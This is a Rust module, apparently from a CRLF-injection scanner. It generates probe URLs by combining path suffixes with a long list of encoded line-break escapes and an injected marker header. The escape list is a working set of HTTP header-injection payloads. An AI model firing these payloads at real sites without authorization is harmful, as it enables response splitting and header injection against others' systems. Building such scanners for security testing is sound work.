//! Payload-bearing candidate URLs for a base target

use crate::models::Marker;
use url::Url;

/// Path fragments placed between the base URL and the escape sequence
const SUFFIXES: &[&str] = &["", "crlfscan", "?crlfscan=", "#", "__session_start__/"];

/// Line-break encodings tried in front of the injected header
const ESCAPES: &[&str] = &[
    "%00",
    "%0a",
    "%0a%20",
    "%0d",
    "%0d%09",
    "%0d%0a",
    "%0d%0a%09",
    "%0d%0a%20",
    "%0d%20",
    "%20",
    "%20%0a",
    "%20%0d",
    "%20%0d%0a",
    "%23%0a",
    "%23%0a%20",
    "%23%0d",
    "%23%0d%0a",
    "%23%oa",
    "%25%30",
    "%25%30%61",
    "%2e%2e%2f%0d%0a",
    "%2f%2e%2e%0d%0a",
    "%2F..%0d%0a",
    "%3f",
    "%3f%0a",
    "%3f%0d",
    "%3f%0d%0a",
    "%e5%98%8a%e5%98%8d",
    "%e5%98%8a%e5%98%8d%0a",
    "%e5%98%8a%e5%98%8d%0d",
    "%e5%98%8a%e5%98%8d%0d%0a",
    "%e5%98%8a%e5%98%8d%e5%98%8a%e5%98%8d",
    "%u0000",
    "%u000a",
    "%u000d",
    "\r",
    "\r%20",
    "\r\n",
    "\r\n%20",
    "\r\n\t",
    "\r\t",
];

/// Expands one target line into the candidate URLs to probe
pub trait CandidateGenerator: Send + Sync {
    fn generate(&self, target: &str) -> Vec<String>;
}

/// Builds `base/<suffix><escape><header>:<value>` for every suffix and escape
#[derive(Debug, Clone)]
pub struct PayloadGenerator {
    injection: String,
}

impl PayloadGenerator {
    pub fn new(marker: &Marker) -> Self {
        Self {
            injection: format!("{}:{}", marker.header, marker.value),
        }
    }

    /// Number of candidates produced per target
    pub fn candidates_per_target() -> usize {
        SUFFIXES.len() * ESCAPES.len()
    }
}

impl CandidateGenerator for PayloadGenerator {
    fn generate(&self, target: &str) -> Vec<String> {
        let base = target.trim_end_matches('/');
        SUFFIXES
            .iter()
            .flat_map(|suffix| {
                ESCAPES
                    .iter()
                    .map(move |escape| format!("{base}/{suffix}{escape}{}", self.injection))
            })
            .collect()
    }
}

/// Whether a target line is an absolute http(s) URL with a host
pub fn is_target_url(line: &str) -> bool {
    match Url::parse(line) {
        Ok(url) => matches!(url.scheme(), "http" | "https") && url.host_str().is_some(),
        Err(_) => false,
    }
}
